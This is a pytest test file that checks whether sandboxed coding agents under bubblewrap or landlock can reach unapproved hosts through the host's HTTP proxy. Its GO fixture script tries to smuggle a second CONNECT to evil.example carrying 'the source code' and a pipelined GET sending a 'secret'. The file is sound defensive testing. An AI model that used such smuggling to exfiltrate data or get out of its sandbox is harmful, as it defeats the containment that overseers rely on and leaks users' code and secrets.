"""Whole runs on a machine that gets out by a proxy of its own: their agents cannot speak to it themselves."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

from autopilot.config.clock import SystemClock
from autopilot.runner.sandbox.missing import Missing
from autopilot.runner.sandbox.registry import open_sandbox
from autopilot.schemas.cell import SandboxKind, SandboxSpec
from autopilot.schemas.run import Outcome
from tests.support.host_proxy import HostProxy
from tests.support.runs import Host, run_here
from tests.support.small_net import Pages
from tests.support.small_project import small_repo

pytestmark = pytest.mark.needs(binary="bwrap", apt="bubblewrap")

MODELS: Final = "models.corp.example:8000"
GO: Final = """
import os, socket
def said(to, *pieces):
    try:
        with socket.create_connection(to, timeout=10) as way:
            way.settimeout(2)
            for piece in pieces:
                way.sendall(piece.replace("\\n", "\\r\\n").encode())
                print(way.recv(200))
    except OSError as error:
        print(error)
outlet = ("127.0.0.1", int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1]))
service, port = {service!r}, {port}
evil = "CONNECT evil.example:443 HTTP/1.1\\nHost: evil.example:443\\n\\n"
said(outlet, f"CONNECT {{service}} HTTP/1.1\\nHost: {{service}}\\n\\n", evil, "the source code")
head = f"POST http://{{service}}/v1 HTTP/1.1\\nHost: {{service}}\\n"
second = "GET http://evil.example/?secret HTTP/1.1\\nHost: evil.example\\n\\n"
said(outlet, f"{{head}}Content-Length: 3\\n\\nabc", second)
if port:
    said(("127.0.0.1", port), evil, "the source code")
"""


@pytest.fixture
def proxy(monkeypatch: pytest.MonkeyPatch) -> Iterator[HostProxy]:
    """Make this machine one that gets out by a proxy, and by no exception."""
    with HostProxy() as proxy:
        for name in ("NO_PROXY", "no_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"):
            monkeypatch.delenv(name, raising=False)
        for name in ("http_proxy", "https_proxy"):
            monkeypatch.setenv(name, proxy.url)
        yield proxy


def went(host: Host, folder: Path, kind: SandboxKind, *, service: str, port: int = 0) -> str:
    """Let an agent with this plain service try to get past it; give what it saw."""
    cell = SandboxSpec(kind=kind)
    if isinstance(sandbox := open_sandbox(cell, SystemClock()), Missing):
        pytest.skip(sandbox.why)
    steps: list[dict[str, object]] = [
        {"write": {"path": "go.py", "text": GO.format(service=service, port=port)}},
        {"run": ["sh", "-c", "python3 -I go.py > said.txt 2>&1; rm go.py"]},
        {"write": {"path": "answer.txt", "text": "right\n"}},
        {"say": "Mended."},
    ]
    agent = host.agent(steps).model_copy(update={"api": (f"http://{service}",)})
    spec = host.spec(small_repo(folder / "theirs"), agent, sandbox=cell)
    result = run_here(spec)
    assert result.outcome is Outcome.COMMITTED, result.message
    return (spec.worktree / "said.txt").read_text()


@pytest.mark.covers("I01")
@pytest.mark.parametrize("kind", ["bubblewrap", "landlock"])
def test_an_agent_with_a_plain_service_reaches_nobody_else_through_the_hosts_proxy(
    host: Host, tmp_path: Path, proxy: HostProxy, kind: SandboxKind
) -> None:
    said = went(host, tmp_path, kind, service=MODELS)
    assert said.startswith("b'HTTP/1.1 200")
    tunnel, request = proxy.heard
    assert tunnel.startswith(f"CONNECT {MODELS} HTTP/1.1\r\n".encode())
    assert request.startswith(f"POST http://{MODELS}/v1 HTTP/1.1\r\n".encode())
    assert request.endswith(b"\r\n\r\nabc")


@pytest.mark.covers("I01")
@pytest.mark.parametrize("kind", ["bubblewrap", "landlock"])
def test_an_agent_with_a_service_on_this_machine_reaches_no_proxy_of_the_host(
    host: Host, tmp_path: Path, proxy: HostProxy, kind: SandboxKind
) -> None:
    with Pages() as model:
        service = f"127.0.0.1:{model.server_port}"
        said = went(host, tmp_path, kind, service=service, port=model.server_port)
        assert said.startswith("b'HTTP/1.1 200")
        assert ("POST", "/v1") in [(method, path) for method, path, *_ in model.asked]
    assert proxy.heard == []
